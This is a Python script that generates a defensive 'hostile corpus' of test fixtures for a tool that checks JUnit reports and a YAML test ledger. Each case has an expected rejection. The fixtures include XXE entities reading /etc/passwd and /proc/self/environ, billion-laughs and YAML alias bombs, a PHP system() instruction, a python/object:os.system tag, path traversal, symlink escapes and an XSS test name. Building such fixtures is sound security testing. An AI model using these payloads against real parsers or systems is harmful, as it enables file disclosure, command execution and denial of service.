#!/usr/bin/env python3
"""Writes the hostile corpus: one folder per case with repo/ (the repository files), expect.json
and, for what cannot be committed (symlinks, FIFOs, sparse or huge files, files outside the
repository), recipe.json, which __tests__/support/hostile.ts applies at run time.
Run from anywhere: python3 __fixtures__/hostile/generate.py (rewrites every case folder)."""
import json, os, shutil

ROOT = os.path.dirname(os.path.abspath(__file__))
for d in os.listdir(ROOT):
    if os.path.exists(os.path.join(ROOT, d, 'expect.json')):
        shutil.rmtree(os.path.join(ROOT, d))

EMPTY_LEDGER = "version: 1\nrows: []\n"
DRAFT_LEDGER = """version: 1
rows:
  - id: t.js::ok
    class: draft
    source: agent
    proposed_class: property
"""
OK_REPORT = '<?xml version="1.0" encoding="UTF-8"?>\n<testsuites>\n  <testsuite name="t">\n    <testcase classname="t.js" name="ok"/>\n  </testsuite>\n</testsuites>\n'
W = '<testsuites><testsuite name="t"><testcase classname="t.js" name="ok"/></testsuite></testsuites>'
ZERO = 'sha256:' + '0' * 64
SHA = 'a' * 40
SHA2 = 'b' * 40
n = 0


def case(name, files, expect, recipe=None, raw=None):
    global n
    n += 1
    d = os.path.join(ROOT, name)
    os.makedirs(d)
    for rel, body in files.items():
        p = os.path.join(d, 'repo', rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, 'wb') as f:
            f.write(body if isinstance(body, bytes) else body.encode('utf-8'))
    for rel, body in (raw or {}).items():
        with open(os.path.join(d, rel), 'wb') as f:
            f.write(body if isinstance(body, bytes) else body.encode('utf-8'))
    with open(os.path.join(d, 'expect.json'), 'w') as f:
        json.dump(expect, f, indent=2, ensure_ascii=False)
        f.write('\n')
    if recipe:
        with open(os.path.join(d, 'recipe.json'), 'w') as f:
            json.dump(recipe, f, indent=2, ensure_ascii=False)
            f.write('\n')


# ------------------------------------------------------------------ XML reports
def xml_case(name, xml, rule, message, note, line=None, recipe=None, ledger=EMPTY_LEDGER, file='reports/r.xml'):
    files = {'tests/ledger.yaml': ledger}
    if xml is not None:
        files['reports/r.xml'] = xml
    e = {'exit': 1, 'rule': rule, 'file': file, 'message': message, 'note': note}
    if line is not None:
        e['line'] = line
    case(name, files, e, recipe)


xml_case('xml-malformed-tag', '<testsuites><testsuite name="t"><testcase classname="t.js" name="ok"</testsuite></testsuites>\n', 'report-invalid', 'malformed', 'a start tag that never ends')
xml_case('xml-truncated', OK_REPORT[:OK_REPORT.index('</testsuite>')], 'report-invalid', 'never closed', 'the report stops half-way (a killed runner)')
xml_case('xml-truncated-in-tag', OK_REPORT[:OK_REPORT.index('name="ok"') + 6], 'report-invalid', None, 'the report stops inside a start tag', line=4)
xml_case('xml-two-roots', W + '\n' + W + '\n', 'report-invalid', 'second root', 'two documents concatenated into one file')
xml_case('xml-empty', '', 'report-invalid', 'no root element', 'an empty file')
xml_case('xml-whitespace-only', '\n\n   \n', 'report-invalid', 'no root element', 'only whitespace')
xml_case('xml-binary', bytes(range(256)) * 4, 'report-invalid', 'not valid UTF-8', 'random binary bytes, NUL included')
xml_case('xml-utf16le-bom', None, 'report-invalid', 'not valid UTF-8', 'a UTF-16LE report with a BOM: refused, not guessed',
         recipe={'steps': [{'write': 'reports/r.xml', 'text': '\ufeff' + OK_REPORT.replace('UTF-8', 'UTF-16'), 'encoding': 'utf16le'}]})
xml_case('xml-utf16be-bom', b'\xfe\xff' + OK_REPORT.encode('utf-16-be'), 'report-invalid', 'not valid UTF-8', 'a UTF-16BE report with its BOM')
xml_case('xml-declared-utf16', OK_REPORT.replace('UTF-8', 'UTF-16'), 'report-invalid', "encoding 'UTF-16' is not supported", 'ASCII bytes that declare UTF-16')
xml_case('xml-utf8-bom-unclassified', '\ufeff' + OK_REPORT, 'unclassified', 'missing from the ledger', 'a UTF-8 BOM is fine; the case is still unclassified', file=None)
xml_case('xml-control-char', OK_REPORT.replace('name="ok"', 'name="o\x01k"'), 'report-invalid', 'U+0001', 'a raw control character inside a name', line=4)
xml_case('xml-char-ref-control', OK_REPORT.replace('name="ok"', 'name="o&#1;k"'), 'report-invalid', 'not an XML character', 'a character reference to a control character')
xml_case('xml-lone-surrogate-ref', OK_REPORT.replace('name="ok"', 'name="&#xD800;"'), 'report-invalid', 'not an XML character', 'a character reference to a lone surrogate')
xml_case('xml-invalid-utf8', OK_REPORT.encode().replace(b'name="ok"', b'name="o\xff\xfek"'), 'report-invalid', 'UTF-8', 'bytes that are not UTF-8 inside a test name: refused, not replaced by U+FFFD', line=4)
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
          + ''.join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
          + ']>\n<testsuites><testsuite name="t"><testcase classname="t.js" name="&lol9;"/></testsuite></testsuites>\n')
xml_case('xml-billion-laughs', LAUGHS, 'report-invalid', 'DOCTYPE', 'billion laughs: nested entities', line=2)
QUAD = ('<?xml version="1.0"?>\n<!DOCTYPE t [<!ENTITY a "' + 'A' * 10000 + '">]>\n<testsuites><testsuite name="t"><testcase classname="t.js" name="'
        + '&a;' * 10000 + '"/></testsuite></testsuites>\n')
xml_case('xml-quadratic-blowup', QUAD, 'report-invalid', 'DOCTYPE', 'quadratic blow-up: one big entity referenced many times', line=2)
xml_case('xml-xxe-file', '<?xml version="1.0"?>\n<!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<testsuites><testsuite name="t"><testcase classname="t.js" name="&xxe;"/></testsuite></testsuites>\n', 'report-invalid', 'DOCTYPE', 'XXE: an external entity naming a local file', line=2)
xml_case('xml-xxe-parameter', '<?xml version="1.0"?>\n<!DOCTYPE t [<!ENTITY % p SYSTEM "file:///proc/self/environ"> %p;]>\n<testsuites/>\n', 'report-invalid', 'DOCTYPE', 'XXE through a parameter entity', line=2)
xml_case('xml-external-subset', '<?xml version="1.0"?>\n<!DOCTYPE testsuites SYSTEM "http://127.0.0.1:9/evil.dtd">\n' + W + '\n', 'report-invalid', 'DOCTYPE', 'an external DTD subset (must not be fetched)', line=2)
xml_case('xml-several-doctypes', '<!DOCTYPE a>\n<!DOCTYPE b>\n' + W, 'report-invalid', 'DOCTYPE', 'two DOCTYPE declarations', line=1)
xml_case('xml-entity-without-doctype', OK_REPORT.replace('name="ok"', 'name="&xxe;"'), 'report-invalid', 'undefined or malformed entity', 'a reference to an entity nobody declared')
xml_case('xml-processing-instruction', '<?php system("id"); ?>\n' + W, 'report-invalid', 'processing instructions', 'a processing instruction before the root')
xml_case('xml-deep-nesting', None, 'report-invalid', 'nested deeper than', 'one hundred thousand nested elements',
         recipe={'steps': [{'repeat': 'reports/r.xml', 'head': '<testsuites>', 'body': '<testsuite name="s">', 'times': 100000, 'tail': ''}]})
xml_case('xml-200mb-attribute', None, 'report-invalid', 'characters (over', 'a 200 MB name attribute (under the 256 MiB report cap)',
         recipe={'steps': [{'repeat': 'reports/r.xml', 'head': '<testsuites><testsuite name="t"><testcase classname="t.js" name="', 'body': 'A' * 1024, 'times': 200 * 1024, 'tail': '"/></testsuite></testsuites>'}]})
xml_case('xml-testcase-no-name', W.replace(' name="ok"', ''), 'report-invalid', 'without a name', 'a test case with no name attribute', line=1)
xml_case('xml-testcase-empty-name', W.replace('name="ok"', 'name=""'), 'report-invalid', 'without a name', 'a test case with an empty name', line=1)
xml_case('xml-zero-testcases', '<testsuites><testsuite name="t" tests="0"/></testsuites>\n', 'report-invalid', 'no report holds any test case', 'a well-formed report without a single test case', file=None)
case('xml-proto-names', {'tests/ledger.yaml': EMPTY_LEDGER, 'reports/r.xml': '<testsuites><testsuite name="__proto__">' + ''.join(
    f'<testcase classname="{c}" name="{t}"/>' for c, t in [('__proto__', '__proto__'), ('constructor', 'constructor'), ('t.js', 'hasOwnProperty'), ('prototype', 'toString')]) + '</testsuite></testsuites>\n'},
     {'exit': 1, 'rule': 'unclassified', 'id': '__proto__::__proto__', 'message': 'missing from the ledger', 'note': 'names that are Object.prototype properties stay plain ids', 'cases': 4})
xml_case('xml-wrong-root', '<html><body><testcase name="ok"/></body></html>\n', 'report-invalid', 'is not a JUnit report', 'an HTML page in place of a report', line=1)
xml_case('xml-testcase-in-testcase', '<testsuite><testcase classname="t.js" name="a"><testcase classname="t.js" name="b"/></testcase></testsuite>\n', 'report-invalid', 'inside a <testcase>', 'a test case nested in a test case')
xml_case('xml-cdata-outside-root', '<![CDATA[x]]>' + W, 'report-invalid', 'CDATA', 'CDATA before the root')
xml_case('xml-comment-double-dash', '<!-- a -- b -->' + W, 'report-invalid', "'--' inside a comment", 'a comment that holds --')
xml_case('xml-duplicate-attribute', W.replace('name="ok"', 'name="ok" name="other"'), 'report-invalid', 'duplicate attribute', 'the same attribute twice: which name wins must not be a guess')

# A name character XML 1.0 does not allow ends the name: the tag is malformed. Read as an
# unknown element `failure\u2028`, the failure was skipped and this property row admitted.
case('xml-name-line-separator', {'tests/ledger.yaml': "version: 1\nrows:\n  - id: t.js::ok\n    class: property\n    invariant: i\n    seeds: seeds/\n", 'seeds/s1': 'seed',
     'reports/r.xml': OK_REPORT.replace('<testcase classname="t.js" name="ok"/>', '<testcase classname="t.js" name="ok"><failure\u2028/></testcase>')},
     {'exit': 1, 'rule': 'report-invalid', 'file': 'reports/r.xml', 'message': 'malformed start tag <failure>', 'line': 4,
      'note': 'a U+2028 after a tag name: not a name character, so a malformed tag, never an unknown element that hides a failure'})
xml_case('xml-name-greek-question-mark', W.replace('<testcase classname', '<testcase\u037e classname'), 'report-invalid', 'malformed start tag <testcase>', 'U+037E inside a tag name (excluded from XML names)', line=1)
xml_case('xml-version-1-1', OK_REPORT.replace('version="1.0"', 'version="1.1"'), 'report-invalid', 'XML version 1.1 is not supported', 'an XML 1.1 declaration: read by other rules, written by no runner', line=1)


# ------------------------------------------------------------------ the ledger
def ledger_case(name, ledger, message, note, line=None, recipe=None, report=OK_REPORT, rule='ledger-invalid', extra=None, seeds=False):
    files = {'reports/r.xml': report}
    if seeds:
        files['seeds/s1'] = 'seed'
    if ledger is not None:
        files['tests/ledger.yaml'] = ledger
    e = {'exit': 1, 'rule': rule, 'file': 'tests/ledger.yaml', 'message': message, 'note': note}
    if line is not None:
        e['line'] = line
    if extra:
        e.update(extra)
    case(name, files, e, recipe)


PROP_ROW = "  - id: t.js::ok\n    class: property\n    invariant: i\n    seeds: seeds/\n"
ledger_case('ledger-alias-bomb', "version: 1\na: &a [x, x, x, x, x, x, x, x, x]\n" + ''.join(
    f"{b}: &{b} [{', '.join(['*' + a] * 9)}]\n" for a, b in zip('abcdef', 'bcdefg')) + "rows: []\n", 'anchor', 'an alias bomb (billion laughs in YAML)', line=2)
ledger_case('ledger-alias-row', "version: 1\nrows:\n  - &row\n    id: t.js::ok\n    class: property\n    invariant: i\n    seeds: seeds/\n  - *row\n", 'anchor', 'a row reused through an alias', line=4)
ledger_case('ledger-duplicate-row-key', "version: 1\nrows:\n  - id: t.js::ok\n    class: quarantine\n    class: property\n    invariant: i\n    seeds: seeds/\n", 'duplicate field', 'the same key twice in a row: the last would win in most parsers', line=5)
ledger_case('ledger-duplicate-top-key', "version: 1\nrows: []\nrows:\n" + PROP_ROW, 'duplicate top-level', 'rows written twice', line=3)
ledger_case('ledger-duplicate-id', "version: 1\nrows:\n  - id: t.js::ok\n    class: quarantine\n    opened: 2026-01-01\n    reason: r\n    owner: o\n" + PROP_ROW, 'duplicate id', 'the same id twice: which class applies must not be a guess', line=8)
ledger_case('ledger-custom-tag', "version: 1\nrows:\n  - !!python/object:os.system\n    id: t.js::ok\n    class: property\n    invariant: i\n    seeds: seeds/\n", 'tag', 'a language-specific tag', line=4)
ledger_case('ledger-binary-tag', "version: 1\nrows:\n  - id: !!binary dC5qczo6b2s=\n    class: property\n    invariant: i\n    seeds: seeds/\n", 'tag', 'a binary tag hiding the id', line=3)
ledger_case('ledger-merge-key', "version: 1\nbase: &base\n  class: property\n  invariant: i\n  seeds: seeds/\nrows:\n  - id: t.js::ok\n    <<: *base\n", 'anchor', 'a merge key pulling fields from elsewhere', line=3)
ledger_case('ledger-several-documents', "version: 1\nrows: []\n---\nversion: 1\nrows:\n" + PROP_ROW, 'several YAML documents', 'a second document after ---', line=3)
ledger_case('ledger-tabs', "version: 1\nrows:\n\t- id: t.js::ok\n\t  class: property\n", None, 'tab indentation', line=3)
ledger_case('ledger-invalid-utf8', ("version: 1\nrows:\n" + PROP_ROW).encode().replace(b'invariant: i', b'invariant: i\xff\xfe'), 'UTF-8', 'bytes that are not UTF-8: refused at their line, not replaced by U+FFFD (else this property row would admit)', line=5, seeds=True)
ledger_case('ledger-c1-control', "version: 1\nrows:\n" + PROP_ROW.replace('invariant: i', 'invariant: i\u009b31m'), 'U+009B', 'a C1 control (CSI) in a value: the fast reader refuses it as YAML does', line=5, seeds=True)
ledger_case('ledger-noncharacter-fffe', "version: 1\nrows:\n" + PROP_ROW.replace('invariant: i', 'invariant: i\ufffe'), 'U+FFFE', 'U+FFFE in a value: the fast reader refuses it as YAML does', line=5, seeds=True)
ledger_case('ledger-nul-byte', "version: 1\nrows:\n" + PROP_ROW.replace('invariant: i', 'invariant: i\x00x'), 'U+0000', 'a raw NUL byte inside a value (else this property row would admit)', line=5, seeds=True)
ledger_case('ledger-deep-flow', None, None, 'thirty thousand nested flow sequences',
            recipe={'steps': [{'repeat': 'tests/ledger.yaml', 'head': 'version: 1\nrows: ', 'body': '[', 'times': 30000, 'tail': ''}, {'append': 'tests/ledger.yaml', 'body': ']', 'times': 30000}]})
ledger_case('ledger-50mb-block', None, None, 'a 50 MB ledger in the plain layout (one huge comment): read quickly, and its draft row still rejects',
            recipe={'steps': [{'repeat': 'tests/ledger.yaml', 'head': DRAFT_LEDGER + '# ', 'body': 'x' * 1024, 'times': 50 * 1024, 'tail': '\n'}]},
            rule='draft-pass', extra={'id': 't.js::ok', 'message': 'draft'})
ledger_case('ledger-50mb-yaml', None, 'plain block layout', 'a 50 MB ledger outside the plain layout (a tab): the full YAML reader is not used past 1 MiB', line=1,
            recipe={'steps': [{'repeat': 'tests/ledger.yaml', 'head': 'version: 1\nrows:\n' + PROP_ROW + '#\t', 'body': 'x' * 1024, 'times': 50 * 1024, 'tail': '\n'}]})
ledger_case('ledger-over-limit', None, 'over the limit', 'a sparse 100 MB ledger: refused by its size before a byte is read',
            recipe={'steps': [{'sparse': 'tests/ledger.yaml', 'bytes': 100 * 1024 * 1024}]})
ledger_case('ledger-version-string', 'version: "1"\nrows:\n' + PROP_ROW, 'unsupported ledger version', 'version as a string', line=1)
ledger_case('ledger-version-2', 'version: 2\nrows:\n' + PROP_ROW, 'unsupported ledger version', 'an unknown version', line=1)
ledger_case('ledger-rows-mapping', 'version: 1\nrows:\n  t.js::ok: property\n', 'must be a list', 'rows as a mapping', line=2)
ledger_case('ledger-id-number', 'version: 1\nrows:\n  - id: 12\n    class: draft\n    source: agent\n    proposed_class: property\n', 'must be a string', 'a number where a string belongs', line=3)
ledger_case('ledger-digest-list', 'version: 1\nrows:\n  - id: t.js::ok\n    class: locked_fixture\n    digest: [sha256]\n    artifact: g.bin\n', 'must be a string', 'a list where the digest belongs', line=5)
ledger_case('ledger-proto-key', 'version: 1\nrows:\n  - id: t.js::ok\n    __proto__: {class: property}\n    class: draft\n    source: agent\n    proposed_class: property\n', "unknown field '__proto__'", 'a __proto__ key inside a row', line=4)
ledger_case('ledger-proto-top-key', '__proto__:\n  version: 1\nversion: 1\nrows: []\n', "unknown top-level field '__proto__'", 'a __proto__ key at the top', line=1)
case('ledger-proto-ids', {'reports/r.xml': '<testsuites><testsuite name="t"><testcase classname="__proto__" name="constructor"/><testcase classname="constructor" name="__proto__"/></testsuite></testsuites>\n',
                          'tests/ledger.yaml': 'version: 1\nrows:\n  - id: __proto__::constructor\n    class: quarantine\n    opened: 2026-01-01\n    reason: r\n    owner: o\n'},
     {'exit': 1, 'rule': 'quarantine-pass', 'id': '__proto__::constructor', 'file': 'tests/ledger.yaml', 'line': 3,
      'note': 'ids named __proto__ and constructor are plain keys: the quarantined one still rejects, the other is unclassified', 'alsoRules': ['unclassified']})
ledger_case('ledger-yaml11-directive', '%YAML 1.1\n---\nversion: 1\nrows:\n' + PROP_ROW, '%YAML 1.1 is refused', 'a YAML 1.1 directive (yes/no, octal, sexagesimal)', line=1)
ledger_case('ledger-unknown-class', 'version: 1\nrows:\n  - id: t.js::ok\n    class: trusted\n', 'unknown class', 'a class the table does not know', line=4)
ledger_case('ledger-typo-field', 'version: 1\nrows:\n  - id: t.js::ok\n    class: locked_fixture\n    digets: ' + ZERO + '\n    artifact: g.bin\n', "unknown field 'digets'", 'a typo must not pass silently', line=5)
ledger_case('ledger-quarantine-no-owner', 'version: 1\nrows:\n  - id: t.js::ok\n    class: quarantine\n    opened: 2026-01-01\n    reason: r\n', "missing field 'owner'", 'a quarantine without an owner is a parked failure', line=3)
ledger_case('ledger-empty', '', 'empty', 'an empty ledger', line=1)
ledger_case('ledger-top-list', '- version: 1\n- rows: []\n', 'must be a mapping', 'a list at the top', line=1)
ledger_case('ledger-missing', None, 'does not exist', 'no ledger at all: one finding that says to run init')
ledger_case('ledger-block-scalar-id', 'version: 1\nrows:\n  - id: |\n      t.js::ok\n    class: property\n    invariant: i\n    seeds: seeds/\n', None,
            'a block scalar id ends with a newline: it classifies nothing', rule='unclassified', extra={'id': 't.js::ok', 'file': None, 'message': 'missing from the ledger'})


# ------------------------------------------------------------------ paths
def path_case(name, files, rule, message, note, recipe=None, args=None, file='tests/ledger.yaml', line=None):
    e = {'exit': 1, 'rule': rule, 'message': message, 'note': note}
    if file is not None:
        e['file'] = file
    if line is not None:
        e['line'] = line
    if args:
        e['args'] = args
    case(name, files, e, recipe)


def fixture_ledger(artifact):
    return f'version: 1\nrows:\n  - id: t.js::ok\n    class: locked_fixture\n    digest: {ZERO}\n    artifact: {artifact}\n'


def seeds_ledger(seeds):
    return f'version: 1\nrows:\n  - id: t.js::ok\n    class: property\n    invariant: i\n    seeds: {seeds}\n'


SECRET_REPORT = '<testsuite><testcase classname="t.js" name="$SECRET"/></testsuite>'
path_case('path-artifact-absolute', {'tests/ledger.yaml': fixture_ledger('/etc/passwd'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'is absolute', 'an absolute artifact path', line=6)
path_case('path-artifact-dotdot', {'tests/ledger.yaml': fixture_ledger('goldens/../../outside/secret.txt'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'climbs out', 'an artifact path that climbs out', line=6)
path_case('path-artifact-backslash', {'tests/ledger.yaml': fixture_ledger('"goldens\\\\..\\\\..\\\\secret.txt"'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'backslash', 'Windows separators to climb out', line=6)
path_case('path-artifact-urlencoded', {'tests/ledger.yaml': fixture_ledger('goldens/%2e%2e/%2e%2e/secret.txt'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'URL-encoded', 'URL-encoded traversal', line=6)
path_case('path-artifact-nul', {'tests/ledger.yaml': fixture_ledger('"goldens/a.bin\\0/../../x"'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'NUL', 'a NUL byte in the path (YAML escape)', line=6)
path_case('path-artifact-symlink-out', {'tests/ledger.yaml': fixture_ledger('goldens/a.bin'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'a golden that is a symlink to a secret file outside the repository', line=6, recipe={'steps': [{'symlink': 'goldens/a.bin', 'to': '$OUTSIDE/secret.txt'}]})
path_case('path-artifact-proc-environ', {'tests/ledger.yaml': fixture_ledger('goldens/env'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'a golden that is a symlink to /proc/self/environ', line=6, recipe={'steps': [{'symlink': 'goldens/env', 'to': '/proc/self/environ'}]})
path_case('path-artifact-dev-zero', {'tests/ledger.yaml': fixture_ledger('goldens/zero'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'a golden that is a symlink to /dev/zero (endless)', line=6, recipe={'steps': [{'symlink': 'goldens/zero', 'to': '/dev/zero'}]})
path_case('path-artifact-symlinked-parent', {'tests/ledger.yaml': fixture_ledger('goldens/secret.txt'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'the goldens folder is a symlink out of the repository', line=6, recipe={'steps': [{'symlink': 'goldens', 'to': '$OUTSIDE'}]})
path_case('path-artifact-fifo', {'tests/ledger.yaml': fixture_ledger('goldens/a.bin'), 'reports/r.xml': OK_REPORT}, 'fixture-missing', 'FIFO',
          'a golden that is a FIFO: opening it must not wait for a writer', line=3, recipe={'steps': [{'fifo': 'goldens/a.bin'}]})
path_case('path-artifact-directory', {'tests/ledger.yaml': fixture_ledger('goldens'), 'reports/r.xml': OK_REPORT, 'goldens/x.bin': 'x'}, 'fixture-missing', 'directory', 'a golden that is a folder', line=3)
path_case('path-artifact-sparse-10g', {'tests/ledger.yaml': fixture_ledger('goldens/big.bin'), 'reports/r.xml': OK_REPORT}, 'fixture-missing', 'over the limit',
          'a sparse 10 GB golden: refused by its size, not hashed', line=3, recipe={'steps': [{'sparse': 'goldens/big.bin', 'bytes': 10 * 1024 ** 3}]})
path_case('path-seeds-symlink-out', {'tests/ledger.yaml': seeds_ledger('seeds'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'a seeds folder that is a symlink out', line=6, recipe={'steps': [{'symlink': 'seeds', 'to': '$OUTSIDE'}]})
path_case('path-seeds-fifo', {'tests/ledger.yaml': seeds_ledger('seeds'), 'reports/r.xml': OK_REPORT}, 'property-seeds-empty', 'FIFO',
          'a seeds "folder" that is a FIFO', line=3, recipe={'steps': [{'fifo': 'seeds'}]})
path_case('path-seeds-dev-null', {'tests/ledger.yaml': seeds_ledger('seeds'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'resolves outside the repository',
          'a seeds folder that is a symlink to /dev/null', line=6, recipe={'steps': [{'symlink': 'seeds', 'to': '/dev/null'}]})
# One spelling per path: the change facts compare ledger paths with git's, byte for byte.
for case_name, spelling in [('dot-slash', './seeds/disc/'), ('double-slash', 'seeds//disc/'), ('dot-segment', 'seeds/disc/.'), ('dotdot-inside', 'seeds/x/../disc')]:
    path_case(f'path-seeds-{case_name}', {'tests/ledger.yaml': seeds_ledger(spelling), 'reports/r.xml': OK_REPORT, 'seeds/disc/s1': 'seed'}, 'ledger-invalid', 'not in canonical form',
              f'seeds spelled {spelling}: git never writes it, so a deleted seed would not count as one', line=6)
path_case('path-seeds-repository-root', {'tests/ledger.yaml': seeds_ledger('./'), 'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'names the repository root', 'the whole repository as a seeds folder', line=6)
path_case('path-seeds-inner-symlinks', {'tests/ledger.yaml': seeds_ledger('seeds'), 'reports/r.xml': OK_REPORT}, 'property-seeds-empty', 'no seed file',
          'a seeds folder that holds only symlinks out: they are not seeds', line=3,
          recipe={'steps': [{'dir': 'seeds'}, {'symlink': 'seeds/a', 'to': '$OUTSIDE/secret.txt'}, {'symlink': 'seeds/b', 'to': '/proc/self/environ'}]})
path_case('path-report-symlink-out', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'symlink', 'the report is a symlink to a report outside the repository naming a secret', file='reports/r.xml',
          recipe={'steps': [{'outside': 'r.xml', 'text': SECRET_REPORT}, {'symlink': 'reports/r.xml', 'to': '$OUTSIDE/r.xml'}]})
path_case('path-report-symlink-beside', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/a.xml': OK_REPORT}, 'report-invalid', 'symlink',
          'beside a real report, a second one is a symlink: refused by name, not skipped by the glob', file='reports/b.xml',
          recipe={'steps': [{'outside': 'r.xml', 'text': SECRET_REPORT}, {'symlink': 'reports/b.xml', 'to': '$OUTSIDE/r.xml'}]})
path_case('path-report-proc-environ', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'symlink', 'the report is a symlink to /proc/self/environ', file='reports/r.xml',
          recipe={'steps': [{'symlink': 'reports/r.xml', 'to': '/proc/self/environ'}]})
path_case('path-report-dev-zero', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'symlink', 'the report is a symlink to /dev/zero', file='reports/r.xml',
          recipe={'steps': [{'symlink': 'reports/r.xml', 'to': '/dev/zero'}]})
path_case('path-report-device-literal', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'not a regular file', 'a device named directly as the report', file='/dev/zero', args=['--junit', '/dev/zero'])
path_case('path-report-fifo', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'FIFO', 'the report is a FIFO: opening it must not block', file='reports/r.xml',
          recipe={'steps': [{'fifo': 'reports/r.xml'}]})
path_case('path-report-directory', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/r.xml/inner.xml': OK_REPORT}, 'report-invalid', 'directory', 'a folder named like a report', file='reports/r.xml')
path_case('path-report-symlinked-parent', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'outside the repository',
          'the reports folder is a symlink out; the report there names a secret', file='reports/r.xml', args=['--junit', 'reports/r.xml'],
          recipe={'steps': [{'outside': 'r.xml', 'text': SECRET_REPORT}, {'symlink': 'reports', 'to': '$OUTSIDE'}]})
path_case('path-report-over-limit', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'over the limit', 'a sparse 300 MB report: refused by its size', file='reports/r.xml',
          recipe={'steps': [{'sparse': 'reports/r.xml', 'bytes': 300 * 1024 * 1024}]})
path_case('path-report-glob-nothing', {'tests/ledger.yaml': DRAFT_LEDGER}, 'report-invalid', 'no report file matches', 'no report at all: never an empty pass', file='reports/*.xml')
path_case('path-ledger-symlink', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'symlink', 'the ledger is a symlink to a ledger outside the repository', line=1,
          recipe={'steps': [{'outside': 'ledger.yaml', 'text': 'version: 1\nrows:\n  - id: t.js::ok\n    class: property\n    invariant: $SECRET\n    seeds: seeds/\n'},
                            {'symlink': 'tests/ledger.yaml', 'to': '$OUTSIDE/ledger.yaml'}]})
path_case('path-ledger-symlinked-parent', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'outside the repository',
          'the tests folder is a symlink out; the ledger there would leak a secret in its errors', line=1,
          recipe={'steps': [{'outside': 'tests/ledger.yaml', 'text': 'version: 1\nrows:\n  - id: t.js::ok\n    $SECRET: 1\n'}, {'symlink': 'tests', 'to': '$OUTSIDE/tests'}]})
path_case('path-ledger-fifo', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'FIFO', 'the ledger is a FIFO', line=1, recipe={'steps': [{'fifo': 'tests/ledger.yaml'}]})
path_case('path-ledger-dev-zero', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'symlink', 'the ledger is a symlink to /dev/zero', line=1,
          recipe={'steps': [{'symlink': 'tests/ledger.yaml', 'to': '/dev/zero'}]})
path_case('path-ledger-absolute', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'inside the repository', '--ledger naming a file outside the repository',
          file='/proc/self/environ', args=['--junit', 'reports/*.xml', '--ledger', '/proc/self/environ'], line=1)
path_case('path-ledger-dotdot', {'reports/r.xml': OK_REPORT}, 'ledger-invalid', 'inside the repository', '--ledger climbing out',
          file='../outside/secret.txt', args=['--junit', 'reports/*.xml', '--ledger', '../outside/secret.txt'], line=1)
path_case('path-collected-symlink', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/r.xml': OK_REPORT}, 'report-invalid', 'symlink', 'the collected list is a symlink to /proc/self/environ',
          file='build/collected.txt', args=['--junit', 'reports/*.xml', '--collected', 'build/collected.txt'],
          recipe={'steps': [{'symlink': 'build/collected.txt', 'to': '/proc/self/environ'}]})
path_case('path-collected-outside', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/r.xml': OK_REPORT}, 'report-invalid', 'is outside the repository',
          '--collected climbing out of the repository: refused unread (its first line used to be quoted)', file='../outside/collected.txt',
          args=['--junit', 'reports/*.xml', '--collected', '../outside/collected.txt'], recipe={'steps': [{'outside': 'collected.txt', 'text': '$SECRET\n'}]})
path_case('path-collected-absolute', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/r.xml': OK_REPORT}, 'report-invalid', 'is outside the repository',
          '--collected naming an absolute path outside the repository: refused unread', file=None,
          args=['--junit', 'reports/*.xml', '--collected', '$OUTSIDE/secret.txt'])
path_case('path-collected-symlinked-parent', {'tests/ledger.yaml': DRAFT_LEDGER, 'reports/r.xml': OK_REPORT}, 'report-invalid', 'outside the repository',
          'the folder of the collected list is a symlink out', file='build/collected.txt', args=['--junit', 'reports/*.xml', '--collected', 'build/collected.txt'],
          recipe={'steps': [{'outside': 'collected.txt', 'text': 't.js::$SECRET\n'}, {'symlink': 'build', 'to': '$OUTSIDE'}]})


# ------------------------------------------------------------------ names and fields that try to inject
def name_case(name, test_name, note, ledger=EMPTY_LEDGER, classname='t.js', rule='unclassified', message='missing from the ledger', args=None, extra=None, recipe=None, report=None):
    xml = report if report is not None else f'<testsuites><testsuite name="t"><testcase classname="{classname}" name="{test_name}"/></testsuite></testsuites>\n'
    files = {'tests/ledger.yaml': ledger}
    if xml:
        files['reports/r.xml'] = xml
    e = {'exit': 1, 'rule': rule, 'message': message, 'note': note, 'inert': True}
    if args:
        e['args'] = args
    if extra:
        e.update(extra)
    case(name, files, e, recipe)


name_case('name-html', '&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;details open&gt;', 'raw HTML in a test name')
